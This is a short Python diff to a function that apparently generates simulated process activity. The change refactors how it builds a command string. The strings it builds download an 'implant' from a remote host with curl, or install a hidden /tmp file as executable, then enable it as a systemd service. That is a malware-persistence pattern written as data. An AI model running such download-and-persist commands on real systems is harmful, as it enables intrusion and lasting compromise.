@@ -150,7 +150,9 @@ def daemon(s):
         yield 3
         writer = process
         if way != "self":
-            command = f"curl -s https://{far}/d -o {implant}" if way == "curl" else f"install -m 755 /tmp/.{word} {implant}"
+            command = f"install -m 755 /tmp/.{word} {implant}"
+            if way == "curl":
+                command = f"curl -s https://{far}/d -o {implant}"
             shell = host.start("/usr/bin/dash", process, f"sh -c {command} && systemctl enable --now {word}")
             tool = "/usr/bin/curl" if way == "curl" else "/usr/bin/install"
             writer = host.brief(tool, shell, command, 2)
